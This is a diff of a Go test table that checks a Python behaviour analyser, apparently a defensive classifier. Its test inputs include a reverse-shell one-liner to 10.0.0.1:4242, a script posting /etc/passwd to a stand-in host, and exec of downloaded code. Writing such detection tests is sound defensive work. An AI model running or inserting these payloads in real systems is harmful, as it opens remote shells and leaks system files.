@@ -152,7 +152,8 @@ func TestPython(t *testing.T) {
 		{"import requests\nprint(requests.get('http://x.example').text)", "builds fetch:http://x.example"},
 		{"import requests\nrequests.post('http://x.example', data=open('/etc/passwd').read())", "builds read:/etc/passwd connect:http://x.example leak"},
 		{"import requests\nexec(requests.get('http://x.example').text)", "builds fetch:http://x.example downloaded ?"},
-		{"import socket,subprocess,os;s=socket.socket();s.connect(('10.0.0.1',4242));os.dup2(s.fileno(),0);subprocess.call(['/bin/sh','-i'])", "fetch:10.0.0.1 network ? run:/bin/sh:-i tethers"},
+		{"import socket,subprocess,os;s=socket.socket();s.connect(('10.0.0.1',4242));os.dup2(s.fileno(),0);subprocess.call(['/bin/sh','-i'])",
+			"fetch:10.0.0.1 network ? run:/bin/sh:-i tethers"},
 		{"import socket,pty;s=socket.create_connection(('h',1));pty.spawn('/bin/sh')", "fetch:h run:/bin/sh ? tethers"},
 		// not seen through
 		{"exec(input())", "?"},
